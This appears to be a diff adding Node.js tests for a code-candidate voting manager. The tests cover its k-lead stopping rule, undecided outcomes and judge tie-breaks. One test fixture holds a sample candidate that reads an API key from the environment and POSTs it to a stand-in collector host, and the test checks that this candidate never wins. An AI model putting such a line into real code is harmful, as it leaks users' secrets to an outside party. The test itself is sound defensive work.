@@ -0,0 +1,97 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import VotingManager from '../src/maker/VotingManager.js';
+
+const tokenCounter = { countTokens: text => Math.ceil(text.length / 4) };
+
+// Client that answers with the given responses in turn (the last one repeats)
+function scriptedClient(responses) {
+  let calls = 0;
+  return {
+    model: 'scripted',
+    get calls() { return calls; },
+    getMaxConcurrency: () => 1,
+    complete: async () => {
+      const content = responses[Math.min(calls, responses.length - 1)];
+      calls++;
+      return { content, usage: { completionTokens: Math.ceil(content.length / 4) } };
+    },
+  };
+}
+
+const fence = code => '```javascript\n' + code + '\n```';
+
+test('stops drawing as soon as one cluster leads by k', async () => {
+  const client = scriptedClient([fence('function add(a, b) {\n  return a + b;\n}')]);
+  const voting = new VotingManager(client, tokenCounter);
+
+  const result = await voting.vote([{ role: 'user', content: 'Write add' }], { type: 'code' }, { k: 2, maxCandidates: 10 });
+
+  assert.equal(result.reliable, true);
+  assert.equal(client.calls, 2);
+  assert.match(result.winner, /return a \+ b/);
+});
+
+test('ends undecided once no cluster can reach a lead of k within the cap', async () => {
+  const client = scriptedClient([
+    fence('function add(a, b) {\n  return a + b;\n}'),
+    fence('class Adder {\n  constructor() { this.total = 0; }\n  push(value) { this.total += value; return this; }\n}'),
+  ]);
+  const voting = new VotingManager(client, tokenCounter);
+
+  const result = await voting.vote([{ role: 'user', content: 'Write add' }], { type: 'code' }, { k: 3, maxCandidates: 4 });
+
+  // 1-1 after two samples: two more can only reach a lead of 2
+  assert.equal(result.reliable, false);
+  assert.equal(client.calls, 2);
+});
+
+test('a candidate that sends secrets over the network never wins', async () => {
+  const client = scriptedClient([
+    fence("const key = process.env.API_KEY;\nfetch('https://collector.example.com', { method: 'POST', body: key });\nexport function add(a, b) {\n  return a + b;\n}"),
+    fence('export function add(a, b) {\n  return a + b;\n}'),
+  ]);
+  const voting = new VotingManager(client, tokenCounter);
+
+  const result = await voting.vote([{ role: 'user', content: 'Write add' }], { type: 'code' }, { k: 1, maxCandidates: 4 });
+
+  assert.equal(result.reliable, true);
+  assert.doesNotMatch(result.winner, /fetch|process\.env/);
+  assert.equal(client.calls, 2);
+});
+
+test('after a tie-break the judged cluster is the winner everywhere', async () => {
+  const client = scriptedClient([
+    fence('function add(a, b) {\n  return a + b;\n}'),
+    fence('class Adder {\n  constructor() { this.total = 0; }\n  push(value) { this.total += value; return this; }\n}'),
+  ]);
+  const records = [];
+  const voting = new VotingManager(client, tokenCounter, { recorder: { record: async record => records.push(record) } });
+
+  // The judge prefers the second cluster
+  voting.judge.run = async (problem, clusters) => ({
+    ranking: [1, 0].map(clusterIndex => ({
+      clusterIndex,
+      representative: clusters[clusterIndex].representative,
+      representativeIndex: clusters[clusterIndex].members[0].index,
+      points: 1 - clusterIndex,
+    })),
+    matches: [],
+    complete: true,
+    judgeCalls: 1,
+  });
+  let winners;
+  voting.ensemble.recordVote = (candidates, winnerIndices) => {
+    winners = [...winnerIndices];
+    return {};
+  };
+
+  const result = await voting.vote([{ role: 'user', content: 'Write add' }], { type: 'code' }, { k: 3, maxCandidates: 4, tieBreak: true });
+
+  const judged = result.clusters[result.tieBreak.winnerCluster];
+  assert.equal(result.decidedBy, 'judge');
+  assert.equal(result.winner, judged.representative);
+  assert.match(result.winner, /class Adder/);
+  assert.deepEqual(winners, judged.members.map(member => member.index));
+  assert.equal(records[0].winnerIndex, result.tieBreak.winnerIndex);
+});